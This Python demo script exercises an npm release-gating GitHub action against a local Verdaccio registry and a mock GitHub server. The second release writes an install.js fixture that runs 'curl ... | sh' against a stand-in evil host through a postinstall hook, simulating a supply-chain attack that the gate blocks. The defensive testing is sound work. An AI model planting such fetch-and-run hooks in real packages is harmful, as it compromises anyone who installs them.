"""Demo of the main job: an embedded Verdaccio registry, the local GitHub stand-in, a real git repo.

1. `demo-widget@1.0.0` on a green default branch: every gate passes and it is published.
2. `demo-widget@1.0.1` adds a `postinstall` hook (what a stolen token would do): blocked.
3. `demo-widget@1.0.1` again, from a commit whose build failed: blocked.

Each run is `entrypoint.py` launched the way GitHub runs the container action; its job summary is
printed, then what the registry holds. Run with `bash scripts/demo.sh`.
"""

from __future__ import annotations

import json
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from tests._support.github_server import GitHubServer  # noqa: E402
from tests._support.verdaccio import ensure_installed, verdaccio_session  # noqa: E402
from tests._support.workspace import assert_no_leak, commit_all, head_sha, make_package_repo, run_action  # noqa: E402

REPO = "acme/demo-widget"
BAR = "=" * 100


def _bump(ws: Path, version: str, scripts: dict[str, str] | None = None) -> str:
    pkg = json.loads((ws / "package.json").read_text())
    pkg["version"] = version
    if scripts:
        pkg["scripts"].update(scripts)
        (ws / "install.js").write_text("require('child_process').execSync('curl -s https://evil.example/x | sh');\n")
    (ws / "package.json").write_text(json.dumps(pkg, indent=2) + "\n")
    commit_all(ws, f"release {version}")
    return head_sha(ws)


def main() -> int:
    print("Installing Verdaccio (cached after the first run)...", flush=True)
    ensure_installed()
    with tempfile.TemporaryDirectory(prefix="gatekeeper-demo-") as tmp_name:
        tmp = Path(tmp_name)
        with verdaccio_session(tmp / "registry") as registry, GitHubServer() as github:
            login = registry.add_user("maintainer", "demo-password-1")
            token = registry.create_token(login, "demo-password-1")
            # `files` keeps the repository's CI config (.github/workflows/) out of the published tarball.
            ws = make_package_repo(tmp / "demo-widget", "demo-widget", "1.0.0", manifest={"files": ["*.js"]})
            repo = github.repo(REPO, default_branch="main")
            home = tmp / "home"
            home.mkdir()

            def release(title: str, sha: str, green: bool, run_id: int) -> int:
                repo.add_commit(sha, "main")
                repo.add_check_run(sha, "test", "success" if green else "failure")
                repo.add_workflow_run(sha, run_id=run_id).add_job("release", status="in_progress")
                env = {**github.env(), "GITHUB_REPOSITORY": REPO, "GITHUB_RUN_ID": str(run_id), "GITHUB_SHA": sha}
                inputs = {"npm-token": token, "github-token": github.token or "", "registry": registry.url}
                result = run_action(ws, env, {"ref": "refs/heads/main", "after": sha}, home=home, inputs=inputs)
                assert_no_leak(result, token)
                outputs = json.dumps(result.outputs)
                print(f"\n{BAR}\n{title}\n  exit code {result.returncode}, outputs: {outputs}\n{BAR}")
                print(result.summary)
                return result.returncode

            codes = [
                release("1) demo-widget@1.0.0 from a green default branch", head_sha(ws), True, 1001),
                release(
                    "2) demo-widget@1.0.1 adds a postinstall hook (a stolen-token attack)",
                    _bump(ws, "1.0.1", {"postinstall": "node install.js"}),
                    True,
                    1002,
                ),
            ]
            # 3) a clean 1.0.1 whose build failed
            pkg = json.loads((ws / "package.json").read_text())
            del pkg["scripts"]["postinstall"]
            (ws / "package.json").write_text(json.dumps(pkg, indent=2) + "\n")
            (ws / "install.js").unlink()
            title = "3) demo-widget@1.0.1 from a commit whose build failed"
            codes.append(release(title, _bump(ws, "1.0.1"), False, 1003))

            doc = registry.packument("demo-widget") or {}
            print(f"{BAR}\nOn the registry now: demo-widget {sorted(doc.get('versions', {}))}")
            print(f"Exit codes: {codes} (0 = published, 1 = blocked)")
            return 0 if codes == [0, 1, 1] and sorted(doc.get("versions", {})) == ["1.0.0"] else 1


if __name__ == "__main__":
    sys.exit(main())
